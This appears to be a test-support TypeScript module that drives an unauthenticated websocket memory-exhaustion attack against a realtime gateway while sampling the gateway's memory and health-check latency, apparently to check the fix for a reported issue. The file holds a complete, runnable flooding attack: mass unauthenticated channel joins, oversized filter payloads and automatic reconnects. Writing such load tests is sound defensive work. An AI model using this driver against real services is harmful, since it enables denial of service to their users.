// The unauthenticated websocket memory attack of issue 14, as a reusable
// driver: `sockets` websockets to /realtime/v1/websocket (reopened whenever
// the server closes one), each joining as many channels as it can without a
// token, every join carrying as many subscriptions with `in.(...)` filters as
// fit in one frame, plus oversized frames, with heartbeats to keep them alive.
// Meanwhile the gateway process's resident memory (/proc/<pid>/status VmRSS)
// and /health latency are sampled.
//
// Also runnable by hand against any gateway (for before/after figures):
//   node --import tsx test/support/ws-attack.ts <base url> <pid> [seconds] [sockets]
import fs from 'node:fs';
import WebSocket from 'ws';

export interface AttackOptions {
  baseUrl: string;
  pid: number;
  seconds: number;
  sockets: number;
  /** Size of each join frame (the server under attack accepted 1 MB frames). */
  frameBytes?: number;
}

export interface AttackResult {
  rssStartMb: number;
  rssMaxMb: number;
  rssEndMb: number;
  healthMaxMs: number;
  healthFailures: number;
  opened: number;
  refused: number;
  closedByServer: number;
  joinsAccepted: number;
  joinsRefused: number;
}

export function rssMb(pid: number): number {
  try {
    const status = fs.readFileSync(`/proc/${pid}/status`, 'utf8');
    const kb = Number(/VmRSS:\s+(\d+)/.exec(status)?.[1] ?? 0);
    return Math.round(kb / 1024);
  } catch {
    return 0; // the process is gone
  }
}

/** A join payload of about `bytes` bytes: subscriptions with `in` filters of `valuesPerFilter` values. */
function joinFrame(ref: number, bytes: number, valuesPerFilter: number): string {
  const values = Array.from({ length: valuesPerFilter }, (_, i) => String(i)).join(',');
  const filter = `id=in.(${values})`;
  const perSub = filter.length + 60;
  const count = Math.max(1, Math.floor(bytes / perSub));
  const changes = Array.from({ length: count }, () => ({ event: '*', schema: 'app', table: 'events', filter }));
  return JSON.stringify([String(ref), String(ref), `realtime:flood-${ref}`, 'phx_join', { config: { postgres_changes: changes } }]);
}

export async function runWebsocketAttack(options: AttackOptions): Promise<AttackResult> {
  const { baseUrl, pid, seconds, sockets } = options;
  const frameBytes = options.frameBytes ?? 700_000;
  const wsUrl = `${baseUrl.replace(/^http/, 'ws')}/realtime/v1/websocket?apikey=x&vsn=2.0.0`;
  const result: AttackResult = {
    rssStartMb: rssMb(pid),
    rssMaxMb: 0,
    rssEndMb: 0,
    healthMaxMs: 0,
    healthFailures: 0,
    opened: 0,
    refused: 0,
    closedByServer: 0,
    joinsAccepted: 0,
    joinsRefused: 0,
  };
  const bigFrame = joinFrame(1, frameBytes, 40_000);
  const smallFrame = joinFrame(1, 60_000, 2000); // under a 64 KB frame limit
  const fittingFrame = joinFrame(1, 8000, 100); // within every per-subscription limit
  const deadline = Date.now() + seconds * 1000;
  let stopped = false;
  const open = new Set<WebSocket>();

  const attacker = async (n: number) => {
    while (!stopped) {
      await new Promise<void>((resolve) => {
        const ws = new WebSocket(wsUrl);
        let ref = 0;
        let beat: NodeJS.Timeout | undefined;
        let flood: NodeJS.Timeout | undefined;
        ws.on('unexpected-response', (_req, res) => {
          result.refused++;
          res.resume();
          setTimeout(resolve, 200);
        });
        ws.on('error', () => {});
        ws.on('open', () => {
          result.opened++;
          open.add(ws);
          beat = setInterval(() => ws.readyState === WebSocket.OPEN && ws.send(JSON.stringify([null, String(++ref), 'phoenix', 'heartbeat', {}])), 1000);
          const send = () => {
            if (ws.readyState !== WebSocket.OPEN || stopped) return;
            ref++;
            const frame = (ref % 5 === 0 ? bigFrame : ref % 2 === 0 ? smallFrame : fittingFrame).replace(/"1","1","realtime:flood-1"/, `"${ref}","${ref}","realtime:flood-${n}-${ref}"`);
            if (ws.bufferedAmount < 4 * 1024 * 1024) ws.send(frame);
          };
          flood = setInterval(send, 50);
        });
        ws.on('message', (data) => {
          const text = String(data);
          if (text.includes('"phx_reply"') && text.includes('flood')) {
            if (text.includes('"status":"ok"')) result.joinsAccepted++;
            else result.joinsRefused++;
          }
        });
        ws.on('close', () => {
          clearInterval(beat);
          clearInterval(flood);
          if (open.delete(ws) && !stopped) result.closedByServer++;
          resolve();
        });
      });
    }
  };

  const health = async () => {
    while (!stopped) {
      const started = performance.now();
      try {
        const res = await fetch(`${baseUrl}/health`, { signal: AbortSignal.timeout(10_000) });
        await res.arrayBuffer();
        if (res.status !== 200) result.healthFailures++;
      } catch {
        result.healthFailures++;
      }
      result.healthMaxMs = Math.max(result.healthMaxMs, performance.now() - started);
      await new Promise((r) => setTimeout(r, 200));
    }
  };

  const sampler = setInterval(() => {
    result.rssMaxMb = Math.max(result.rssMaxMb, rssMb(pid));
  }, 250);
  const runs = [...Array.from({ length: sockets }, (_, i) => attacker(i)), health()];
  while (Date.now() < deadline && rssMb(pid) > 0) await new Promise((r) => setTimeout(r, 250));
  result.rssEndMb = rssMb(pid);
  stopped = true;
  clearInterval(sampler);
  for (const ws of open) ws.terminate();
  open.clear();
  await Promise.all(runs);
  result.healthMaxMs = Math.round(result.healthMaxMs);
  return result;
}

if (process.argv[1] && import.meta.filename === fs.realpathSync(process.argv[1])) {
  const [baseUrl, pid, seconds, sockets] = process.argv.slice(2);
  runWebsocketAttack({ baseUrl: baseUrl!, pid: Number(pid), seconds: Number(seconds ?? 60), sockets: Number(sockets ?? 20) }).then(
    (r) => console.log(JSON.stringify(r)),
    (err: unknown) => {
      console.error(err);
      process.exit(1);
    },
  );
}
